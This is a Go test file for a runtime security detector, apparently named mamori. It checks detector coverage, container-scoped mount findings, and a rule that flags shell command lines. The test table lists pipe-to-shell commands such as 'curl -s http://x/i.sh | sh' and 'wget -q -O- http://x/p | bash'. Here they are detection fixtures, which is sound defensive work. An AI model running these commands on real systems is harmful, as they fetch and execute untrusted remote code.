package detect

import (
	"testing"

	"github.com/mamori-dev/mamori/internal/event"
	"github.com/mamori-dev/mamori/internal/finding"
	"github.com/mamori-dev/mamori/internal/intel"
)

func builtinEngine(t testing.TB) *Engine {
	t.Helper()
	store, err := intel.NewStore("")
	if err != nil {
		t.Fatal(err)
	}
	return NewEngine(finding.Agent{NodeID: "n1", Version: "test"}, nil, Builtin(store)...)
}

// Every catalogue type has a detector that may raise it.
func TestEveryTypeHasADetector(t *testing.T) {
	raised := map[string]bool{}
	for _, d := range builtinEngine(t).Detectors() {
		for _, typ := range d.Types() {
			if _, ok := finding.Lookup(typ); !ok {
				t.Errorf("detector %s raises %s, which is not in the catalogue", d.Name(), typ)
			}
			raised[typ] = true
		}
	}
	for _, k := range finding.Catalogue {
		if !raised[k.Type] {
			t.Errorf("no detector raises %s", k.Type)
		}
	}
}

// The engine routes by kind and scope: a container-only detector stays
// silent on the host.
func TestRoutingByKindAndScope(t *testing.T) {
	e := builtinEngine(t)
	var got []*finding.Finding
	mount := &event.Event{Kind: event.KindMount, Result: -1, Error: "EPERM",
		Process: event.Process{PID: 5, UUID: "u"}, Mount: &event.Mount{Source: "/dev/vda1", Target: "/mnt", FSType: "ext4"}}
	e.Process(mount, func(f *finding.Finding) { got = append(got, f) })
	if len(got) != 0 {
		t.Fatalf("host mount raised %v", got[0].Type)
	}
	mount.Container = &event.Container{ID: "c", Runtime: "podman"}
	e.Process(mount, func(f *finding.Finding) { got = append(got, f) })
	if len(got) != 1 || got[0].Type != "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory" {
		t.Fatalf("container mount raised %v", got)
	}
	if err := finding.Validate(got[0]); err != nil {
		t.Fatal(err)
	}
	if got[0].Service.RuntimeDetails.Context["result"] != "EPERM" {
		t.Errorf("context %v lacks the failed result", got[0].Service.RuntimeDetails.Context)
	}
}

func TestCommandLineOfShellScripts(t *testing.T) {
	for args, want := range map[string]bool{
		"sh -c curl -s http://x/i.sh | sh":            true,
		"bash -c echo aGk= | base64 -d | bash":        true,
		"curl -s http://example.com/index.html":       false,
		"tar czf /tmp/a.tgz /srv":                     false,
		"sh -c ls -la /tmp && cat /tmp/notes.txt":     false,
		"bash -lc wget -q -O- http://x/p | bash -s x": true,
	} {
		var argv []string
		if a, rest, ok := cutShell(args); ok {
			argv = []string{a[0], a[1], rest}
		} else {
			argv = splitSpaces(args)
		}
		ev := &event.Event{Kind: event.KindExec, Process: event.Process{PID: 1, UUID: "u", Exe: "/bin/" + argv[0]},
			Exec: &event.Exec{Args: argv}}
		fired := false
		commands().Detect(ev, func(h Hit) { fired = fired || h.Type == tExecution })
		if fired != want {
			t.Errorf("%q: fired=%v, want %v", args, fired, want)
		}
	}
}

func cutShell(s string) ([2]string, string, bool) {
	f := splitSpaces(s)
	if len(f) > 2 && shells[f[0]] && (f[1] == "-c" || f[1] == "-lc") {
		return [2]string{f[0], f[1]}, s[len(f[0])+len(f[1])+2:], true
	}
	return [2]string{}, "", false
}

func splitSpaces(s string) []string {
	var out []string
	cur := ""
	for _, r := range s {
		if r == ' ' {
			if cur != "" {
				out = append(out, cur)
			}
			cur = ""
			continue
		}
		cur += string(r)
	}
	if cur != "" {
		out = append(out, cur)
	}
	return out
}
